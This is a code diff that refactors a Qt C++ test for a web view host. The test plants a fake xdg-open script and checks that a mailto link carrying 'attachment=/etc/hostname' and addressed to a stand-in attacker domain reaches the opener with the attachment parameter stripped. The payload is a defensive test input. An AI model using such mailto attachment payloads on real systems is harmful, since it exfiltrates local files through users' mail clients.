@@ -208,20 +208,15 @@ private slots:
         if (QGuiApplication::platformName() == QLatin1String("offscreen"))
             QSKIP("the offscreen platform opens nothing; tst_webview_mailto runs this under X");
         QTemporaryDir bin;
-        const QByteArray log = bin.filePath(QStringLiteral("opened")).toUtf8();
         QFile script(bin.filePath(QStringLiteral("xdg-open")));
-        QVERIFY(script.open(QIODevice::WriteOnly));
-        script.write("#!/bin/sh\nprintf '%s' \"$1\" > '" + log + ".part' && mv '" + log + ".part' '" + log + "'\n");
+        QVERIFY(script.open(QIODevice::WriteOnly) && script.write("#!/bin/sh\nprintf '%s' \"$1\" > \"$0.part\" && mv \"$0.part\" \"$0.url\"\n") > 0);
         script.close();
         QVERIFY(script.setPermissions(QFile::ReadOwner | QFile::ExeOwner));
-        const QByteArray path = qgetenv("PATH");
-        qputenv("PATH", bin.path().toUtf8() + ':' + path);
-        WebViewHost host;
-        host.openExternally(QUrl(QStringLiteral("mailto:x@evil.test?subject=Hi&attachment=/etc/hostname&body=b")));
-        const bool opened = QTest::qWaitFor([&] { return QFile::exists(QString::fromUtf8(log)); }, 10000);
-        qputenv("PATH", path);
-        QFile received(QString::fromUtf8(log));
-        QVERIFY(opened && received.open(QIODevice::ReadOnly));
+        qputenv("PATH", bin.path().toUtf8() + ':' + qgetenv("PATH"));
+        WebViewHost().openExternally(QUrl(QStringLiteral("mailto:x@evil.test?subject=Hi&attachment=/etc/hostname&body=b")));
+        QFile received(script.fileName() + QStringLiteral(".url"));
+        QTRY_VERIFY_WITH_TIMEOUT(received.exists(), 10000);
+        QVERIFY(received.open(QIODevice::ReadOnly));
         QCOMPARE(received.readAll(), QByteArray("mailto:x@evil.test?subject=Hi&body=b"));
     }
 
